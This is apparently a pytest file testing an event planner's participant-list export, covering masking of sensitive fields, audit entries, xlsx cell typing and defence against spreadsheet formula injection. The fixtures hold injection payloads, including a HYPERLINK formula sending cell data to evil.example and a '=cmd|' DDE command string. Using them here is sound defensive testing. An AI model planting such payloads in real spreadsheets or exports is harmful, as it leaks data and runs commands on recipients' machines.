"""Participant lists for partners: columns, masking, no formulas, and audit when unmasked."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from planner.domain.errors import PlannerError
from planner.exports.people import neutralise
from planner.imports.people import propose_mapping, read_people_file
from planner.operations.participants import export_people, format_for
from planner.operations.people import create_person, register_person
from planner.store.database import Database
from planner.store.models import AuditEntry, PersonSensitive
from tests.participants.conftest import make_event, make_org

NASTY = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"


@pytest.fixture
def event(db: Database) -> int:
    event = make_event(db)
    org = make_org(db, "HKIPD", "Intellectual Property Department", "知識產權署", None)
    with db.write() as session:
        people = [
            create_person(session, name_en="CHAN Tai-man", name_zh="陳大文", organisation_id=org,
                          position="@SUM(1+1)", email="tm.chan@example.org",
                          phone="+852 9123 4567", dietary_needs="vegetarian").value,
            create_person(session, name_en=NASTY, name_zh="-2+3", phone="+86 138 0013 8000",
                          email="x@example.cn").value]
        session.add(PersonSensitive(person_id=people[0].id, guardian_name="CHAN Tai-wai"))
        for person in people:
            register_person(session, event, person.id)
    return event


def _export(db: Database, event: int, fmt: str, **options) -> bytes:
    with db.write() as session:
        return export_people(session, event, fmt, **options).data


def _csv_rows(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")  # Excel on Windows reads it as UTF-8
    return list(csv.reader(io.StringIO(data[3:].decode("utf-8"))))


def test_csv_masks_sensitive_fields_and_neutralises_formulas(db: Database, event: int) -> None:
    rows = _csv_rows(_export(db, event, "csv"))
    assert rows[0] == ["English name / 英文姓名", "Chinese name / 中文姓名", "Organisation / 機構",
                       "Position / 職位", "Category / 類別", "Role / 角色", "Status / 狀態",
                       "E-mail / 電郵", "Phone / 電話"]
    assert rows[1] == ["CHAN Tai-man", "陳大文", "Intellectual Property Department",
                       "'@SUM(1+1)", "other", "participant", "registered", "t***@example.org",
                       " +852 **** **67"]
    assert rows[2][:2] == ["'" + NASTY, "'-2+3"]
    assert rows[2][8] == " +86 *** **** **00"
    with db.read() as session:
        assert session.scalars(select(AuditEntry)).all() == []  # masked: nothing to audit


def test_included_sensitive_fields_are_audited(db: Database, event: int) -> None:
    columns = ["name_en,phone", "guardian_name", "dietary_needs", "check_in_code"]
    rows = _csv_rows(_export(db, event, "csv", columns=columns, include_sensitive=True))
    assert rows[1][:4] == ["CHAN Tai-man", " +852 9123 4567", "CHAN Tai-wai", "vegetarian"]
    assert len(rows[1][4]) == 12
    with db.read() as session:
        entry = session.scalars(select(AuditEntry)).one()
        assert (entry.action, entry.user, entry.entity, entry.entity_id) == (
            "export_sensitive", db.user, "event", event)
        assert entry.details == {"columns": ["phone", "guardian_name", "dietary_needs",
                                             "check_in_code"], "rows": 2, "format": "csv"}


def test_masked_unless_included_in_every_sensitive_column(db: Database, event: int) -> None:
    rows = _csv_rows(_export(db, event, "csv", columns=["guardian_name", "dietary_needs",
                                                        "email"]))
    assert rows[1] == ["***", "***", "t***@example.org"]
    assert rows[2] == ["", "", "x***@example.cn"]


def test_xlsx_cells_are_typed_strings_with_a_header_row(db: Database, event: int,
                                                        tmp_path: Path) -> None:
    data = _export(db, event, "xlsx", columns=["name_en", "name_zh", "position", "phone"],
                   include_sensitive=True)
    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml  # no formula anywhere
    path = tmp_path / "list.xlsx"
    path.write_bytes(data)
    sheet = load_workbook(path).active
    values = [[c.value for c in row] for row in sheet.iter_rows()]
    assert values[0] == ["English name / 英文姓名", "Chinese name / 中文姓名", "Position / 職位",
                         "Phone / 電話"]
    assert values[1] == ["CHAN Tai-man", "陳大文", "@SUM(1+1)", "+852 9123 4567"]
    assert values[2] == [NASTY, "-2+3", None, "+86 138 0013 8000"]
    assert {c.data_type for row in sheet.iter_rows() for c in row if c.value} == {"s"}
    assert sheet.freeze_panes == "A2"


def test_an_export_imports_again(db: Database, event: int, tmp_path: Path) -> None:
    path = tmp_path / "again.xlsx"
    path.write_bytes(_export(db, event, "xlsx", columns=["name_en", "name_zh", "organisation",
                                                         "email", "is_minor"]))
    table = read_people_file(path)
    assert propose_mapping(table.headers) == {0: "name_en", 1: "name_zh", 2: "organisation",
                                              3: "email", 4: "is_minor"}


@pytest.mark.parametrize("cell, expected", [
    ("=1+2", "'=1+2"), ("+1-1", " +1-1"), ("-5", "'-5"), ("@cmd", "'@cmd"),
    ("\tx", "'\tx"), ("\r=1", "'\r=1"), ("+852 9123 4567", " +852 9123 4567"),
    ("+852 9123 4567 =cmd|'/c calc'!A0", "'+852 9123 4567 =cmd|'/c calc'!A0"),
    ("plain", "plain"), ("", "")])
def test_owasp_csv_rule(cell: str, expected: str) -> None:
    assert neutralise(cell) == expected


def test_unknown_column_and_format_are_refused(db: Database, event: int) -> None:
    for call, code in [(lambda: _export(db, event, "csv", columns=["shoe_size"]),
                        "export_unknown_column"),
                       (lambda: format_for("list.pdf"), "export_format")]:
        with pytest.raises(PlannerError) as info:
            call()
        assert info.value.code == code
